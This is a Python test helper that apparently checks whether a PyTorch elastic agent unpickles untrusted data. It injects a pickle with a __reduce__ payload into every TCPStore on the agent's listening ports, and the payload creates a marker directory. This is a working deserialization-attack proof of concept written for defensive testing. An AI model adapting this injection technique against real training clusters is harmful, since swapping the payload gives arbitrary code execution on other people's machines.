"""`-m tests.unit.training.poisoned_store FILE`: a rank that writes into all stores of its agent what makes
the file, if its agent unpickles it."""

from __future__ import annotations

import base64
import os
import pickle
import sys
import time
from datetime import timedelta

import psutil
from torch.distributed import DistError, TCPStore


class Touch:
    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (sys.argv[1],)


def main() -> None:
    agent = psutil.Process(os.getppid()).net_connections("tcp")
    ports = {each.laddr.port for each in agent if each.status == psutil.CONN_LISTEN}
    poison = base64.b64encode(pickle.dumps(Touch()))
    assert int(os.environ["MASTER_PORT"]) in ports
    for port in ports:
        try:
            store = TCPStore("127.0.0.1", port, timeout=timedelta(seconds=2), wait_for_workers=False)
            store.set(f"torch.rendezvous.{os.environ['TORCHELASTIC_RUN_ID']}", poison)
        except DistError:
            print(f"none at {port}")
    time.sleep(3)  # it looks each second whether there are more nodes


if __name__ == "__main__":
    main()
